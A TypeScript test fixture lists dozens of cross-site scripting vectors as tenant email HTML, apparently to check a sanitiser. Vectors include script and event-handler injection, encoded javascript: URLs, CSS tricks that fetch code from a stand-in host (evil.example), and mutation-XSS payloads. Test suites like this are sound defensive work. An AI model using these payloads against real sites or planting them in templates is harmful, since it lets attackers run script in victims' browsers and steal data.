// Known XSS vectors (issue 11's three findings and OWASP XSS filter evasion cheat sheet style
// variants), each as a tenant's whole email HTML. `fires` marks the vectors that run script on their
// own when the page loads (no click needed): the browser test proves they are live before sanitising.

export interface XssVector {
  name: string;
  body: string;
  fires?: boolean;
}

const X = 'window.__xss=(window.__xss||0)+1';

export const XSS_VECTORS: XssVector[] = [
  // Issue 11, finding 2
  { name: 'script with slash separator', body: `<script/x>${X}</script>`, fires: true },
  { name: 'slash-separated onload', body: `<svg/onload=${X}>`, fires: true },
  { name: 'unquoted javascript: href', body: '<a href=javascript:alert(1)>pay</a>' },
  // Scripts and event handlers
  { name: 'plain script', body: `<script>${X}</script>`, fires: true },
  { name: 'img onerror', body: `<img src=x onerror="${X}">`, fires: true },
  { name: 'body onload', body: `<body onload="${X}">` },
  { name: 'svg script', body: `<svg><script>${X}</script></svg>`, fires: true },
  { name: 'details ontoggle', body: `<details open ontoggle="${X}">x</details>`, fires: true },
  { name: 'autofocus onfocus', body: `<input autofocus onfocus="${X}">` },
  { name: 'onclick on an allowed tag', body: '<a href="https://ok.example" onclick="alert(1)">x</a>' },
  { name: 'handler on a placeholder link', body: '<a href="{{payUrl}}" onmouseover="alert(1)">pay</a>' },
  { name: 'video source onerror', body: `<video><source onerror="${X}"></video>` },
  { name: 'unknown tag with handler', body: `<xss onafterscriptexecute="${X}"><script>1</script>` },
  { name: 'broken quote then script', body: `<img """><script>${X}</script>">`, fires: true },
  { name: 'nested script tag', body: `<scr<script>ipt>${X}</script>` },
  { name: 'double open bracket', body: `<<script>${X}//<</script>`, fires: true },
  { name: 'script in template', body: `<template><script>${X}</script></template>` },
  { name: 'script in textarea', body: `<textarea><script>${X}</script></textarea>` },
  // Frames, objects, forms
  { name: 'iframe srcdoc', body: `<iframe srcdoc="<script>parent.${X}</script>"></iframe>`, fires: true },
  { name: 'iframe javascript:', body: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'object data', body: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed', body: '<embed src="data:text/html,<script>alert(1)</script>">' },
  { name: 'form action', body: '<form action="javascript:alert(1)"><button>Pay</button></form>' },
  { name: 'formaction button', body: '<button formaction="javascript:alert(1)">Pay</button>' },
  { name: 'isindex', body: '<isindex action="javascript:alert(1)" type="image">' },
  // URLs
  { name: 'data: link', body: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>' },
  {
    name: 'entity-encoded javascript:',
    body: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  },
  {
    name: 'hex entities without semicolons',
    body: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  },
  { name: 'tab inside javascript:', body: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { name: 'newline inside javascript:', body: '<a href="jav&#x0A;ascript:alert(1)">x</a>' },
  { name: 'leading space javascript:', body: '<a href=" javascript:alert(1)">x</a>' },
  { name: 'mixed case javascript:', body: '<a href="JaVaScRiPt:alert(1)">x</a>' },
  { name: 'vbscript:', body: '<a href="vbscript:msgbox(1)">x</a>' },
  { name: 'img javascript: src', body: '<img src="javascript:alert(1)">' },
  { name: 'img srcset', body: '<img src="https://ok.example/a.png" srcset="javascript:alert(1)">' },
  { name: 'table background', body: '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>' },
  {
    name: 'svg xlink:href',
    body: '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  },
  { name: 'base href', body: '<base href="javascript:alert(1)//"><a href="x">x</a>' },
  { name: 'protocol-relative link', body: '<a href="//evil.example/x">x</a>' },
  // CSS
  { name: 'style url(javascript:)', body: '<div style="background:url(javascript:alert(1))">x</div>' },
  { name: 'style expression()', body: '<div style="width:expression(alert(1))">x</div>' },
  { name: 'style escaped url()', body: '<div style="background:u\\72l(javascript:alert(1))">x</div>' },
  { name: 'style behavior', body: '<div style="behavior:url(https://evil.example/x.htc)">x</div>' },
  { name: 'style -moz-binding', body: '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>' },
  {
    name: 'style tracking image',
    body: '<p style="color:red;background-image:url(https://evil.example/t)">x</p>',
  },
  { name: 'style element @import', body: "<style>@import 'https://evil.example/x.css';</style>" },
  { name: 'link stylesheet', body: '<link rel="stylesheet" href="javascript:alert(1)">' },
  // Meta
  { name: 'meta refresh', body: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'meta CSP override', body: '<meta http-equiv="Content-Security-Policy" content="script-src *">' },
  // Mutation XSS (parser differentials)
  {
    name: 'math/mglyph/style mXSS',
    body: `<math><mtext><table><mglyph><style><img src=x onerror="${X}">`,
  },
  { name: 'noscript title mXSS', body: `<noscript><p title="</noscript><img src=x onerror=${X}>">` },
  {
    name: 'svg foreignObject',
    body: `<svg><foreignObject><img src=x onerror="${X}"></foreignObject></svg>`,
    fires: true,
  },
  { name: 'comment break-out', body: `<!--><img src=x onerror="${X}">-->`, fires: true },
  { name: 'CDATA in svg', body: `<svg><![CDATA[><img src=x onerror="${X}">]]></svg>` },
];

/** A vector as a whole email document, the form a tenant's HTML override takes. */
export const asEmail = (vector: XssVector) =>
  `<!DOCTYPE html><html><head><title>Reminder</title></head><body><p>Beste {{debtorName}},</p>${vector.body}<p><a href="{{payUrl}}">Betaal</a></p></body></html>`;
